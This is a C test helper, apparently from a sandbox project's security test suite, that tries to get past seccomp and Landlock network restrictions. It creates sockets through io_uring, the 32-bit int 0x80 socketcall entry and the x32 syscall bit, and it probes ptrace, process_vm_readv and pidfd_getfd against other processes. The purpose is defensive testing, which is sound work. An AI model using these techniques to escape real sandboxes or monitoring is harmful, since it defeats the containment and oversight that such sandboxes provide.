/* secprobe: attack primitives for tests/security that a shell cannot express.
 * Compiled by the test session (conftest.py) on the host into a directory the tool can
 * read, then run INSIDE the sandbox. Every mode prints one line per attempt:
 *   "<STEP> ok <detail>"  or  "<STEP> err <errno name> <strerror>"
 * and the host side decides (a listener that counts connections, a process status).
 *
 *   secprobe uring-tcp  HOST PORT   socket() through io_uring (IORING_OP_SOCKET), then
 *                                   connect()+send: sidesteps a seccomp filter on socket()
 *   secprobe uring-udp  HOST PORT   same, a UDP datagram (Landlock has no UDP rule)
 *   secprobe compat-tcp HOST PORT   socket() through the 32-bit entry (int 0x80,
 *                                   socketcall), which a native-only filter may not see
 *   secprobe x32-tcp    HOST PORT   socket() with the x32 syscall bit
 *   secprobe compat-entry           does this kernel serve int 0x80 at all? A child makes
 *                                   a harmless getpid through it; "compat_entry ok" or
 *                                   "compat_entry absent <signal>" (a kernel without
 *                                   IA32 emulation, or booted ia32_emulation=0, kills
 *                                   the caller with SIGSEGV)
 *   secprobe ptrace     PID         PTRACE_ATTACH, PTRACE_SEIZE, process_vm_readv,
 *                                   pidfd_open + pidfd_getfd on PID
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void report(const char *step, long rc, int err, const char *detail)
{
    if (rc >= 0)
        printf("%s ok %s\n", step, detail ? detail : "");
    else
        printf("%s err %s %s\n", step, strerrorname_np(err) ? strerrorname_np(err) : "?",
               strerror(err));
    fflush(stdout);
}

/* ---- a minimal io_uring, raw syscalls (no liburing) ---- */
static int ring_fd = -1;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;

static int uring_setup(void)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    ring_fd = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (ring_fd < 0)
        return -errno;
    size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd,
                    IORING_OFF_SQ_RING);
    char *cq = mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd,
                    IORING_OFF_CQ_RING);
    sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
        return -errno;
    sq_tail = (unsigned *)(sq + p.sq_off.tail);
    sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    sq_array = (unsigned *)(sq + p.sq_off.array);
    cq_head = (unsigned *)(cq + p.cq_off.head);
    cq_tail = (unsigned *)(cq + p.cq_off.tail);
    cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

/* submit one sqe, wait for its completion; returns cqe.res (a -errno on failure) */
static int uring_do(const struct io_uring_sqe *tmpl)
{
    unsigned tail = *sq_tail;
    unsigned idx = tail & *sq_mask;
    sqes[idx] = *tmpl;
    sq_array[idx] = idx;
    __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, ring_fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
    if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
        return -EAGAIN;
    int res = cqes[head & *cq_mask].res;
    __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

static int uring_socket(int domain, int type)
{
    int rc = uring_setup();
    report("io_uring_setup", rc, -rc, NULL);
    if (rc < 0)
        return -1;
    struct io_uring_sqe sqe;
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = 45; /* IORING_OP_SOCKET (5.19+) */
    sqe.fd = domain;
    sqe.off = (uint64_t)type;
    sqe.len = 0;
    int fd = uring_do(&sqe);
    char d[32];
    snprintf(d, sizeof d, "fd=%d", fd);
    report("uring_socket", fd, -fd, d);
    return fd;
}

static void connect_and_send(int fd, const char *host, int port, const char *what)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, host, &sa.sin_addr);
    int rc = connect(fd, (struct sockaddr *)&sa, sizeof sa);
    report("connect", rc, errno, NULL);
    ssize_t n = sendto(fd, what, strlen(what), MSG_NOSIGNAL, rc == 0 ? NULL : (struct sockaddr *)&sa,
                       rc == 0 ? 0 : sizeof sa);
    char d[32];
    snprintf(d, sizeof d, "bytes=%zd", n);
    report("send", n, errno, d);
}

/* socketcall(SYS_SOCKET) through the i386 entry point: arguments in 32-bit memory */
static int compat_socket(int domain, int type)
{
    uint32_t *args = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
                          -1, 0);
    if (args == MAP_FAILED) {
        report("mmap32", -1, errno, NULL);
        return -1;
    }
    args[0] = (uint32_t)domain;
    args[1] = (uint32_t)type;
    args[2] = 0;
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(102L), "b"(1L), "c"((long)(uintptr_t)args)
                     : "memory");
    char d[32];
    snprintf(d, sizeof d, "fd=%ld", ret);
    report("compat_socketcall", ret, (int)-ret, d);
    return (int)ret;
}

/* The premise of compat-tcp: in a child, so a kernel that answers int 0x80 with SIGSEGV
 * kills only the child. Exit status 0 means the entry answered getpid (20 on i386). */
static int compat_entry(void)
{
    pid_t child = fork();
    if (child < 0) {
        report("compat_entry", -1, errno, NULL);
        return 1;
    }
    if (child == 0) {
        long ret;
        __asm__ volatile("int $0x80" : "=a"(ret) : "a"(20L) : "memory");
        _exit(ret == (long)getpid() ? 0 : 3);
    }
    int st;
    if (waitpid(child, &st, 0) < 0) {
        report("compat_entry", -1, errno, NULL);
        return 1;
    }
    if (WIFSIGNALED(st))
        printf("compat_entry absent %s\n", sigabbrev_np(WTERMSIG(st)) ? sigabbrev_np(WTERMSIG(st)) : "?");
    else if (WEXITSTATUS(st) != 0)
        printf("compat_entry absent getpid-mismatch\n");
    else
        printf("compat_entry ok\n");
    return 0;
}

static int do_ptrace(pid_t pid)
{
    long rc = ptrace(PTRACE_ATTACH, pid, 0, 0);
    report("ptrace_attach", rc, errno, NULL);
    if (rc == 0) {
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    rc = ptrace(PTRACE_SEIZE, pid, 0, 0);
    report("ptrace_seize", rc, errno, NULL);
    if (rc == 0)
        ptrace(PTRACE_DETACH, pid, 0, 0);
    char buf[64];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    rc = syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0);
    report("process_vm_readv", rc, errno, NULL);
    int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
    report("pidfd_open", pfd, errno, NULL);
    if (pfd >= 0) {
        int got = -1, fdn;
        for (fdn = 0; fdn < 64 && got < 0; fdn++)
            got = (int)syscall(SYS_pidfd_getfd, pfd, fdn, 0);
        report("pidfd_getfd", got, errno, NULL);
        rc = syscall(SYS_pidfd_send_signal, pfd, 0, NULL, 0);
        report("pidfd_send_signal0", rc, errno, NULL);
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 2 || (argc < 3 && strcmp(argv[1], "compat-entry") != 0)) {
        fprintf(stderr, "usage: secprobe MODE ARGS...\n");
        return 2;
    }
    const char *mode = argv[1];
    if (!strcmp(mode, "compat-entry"))
        return compat_entry();
    if (!strcmp(mode, "ptrace"))
        return do_ptrace((pid_t)atoi(argv[2]));
    if (argc < 4)
        return 2;
    const char *host = argv[2];
    int port = atoi(argv[3]);
    int fd = -1;
    if (!strcmp(mode, "uring-tcp"))
        fd = uring_socket(AF_INET, SOCK_STREAM);
    else if (!strcmp(mode, "uring-udp"))
        fd = uring_socket(AF_INET, SOCK_DGRAM);
    else if (!strcmp(mode, "compat-tcp"))
        fd = compat_socket(AF_INET, SOCK_STREAM);
    else if (!strcmp(mode, "x32-tcp")) {
        fd = (int)syscall(__NR_socket | 0x40000000, AF_INET, SOCK_STREAM, 0);
        report("x32_socket", fd, errno, NULL);
    } else {
        fprintf(stderr, "unknown mode %s\n", mode);
        return 2;
    }
    if (fd >= 0)
        connect_and_send(fd, host, port, "ESCAPED-secprobe\n");
    return 0;
}
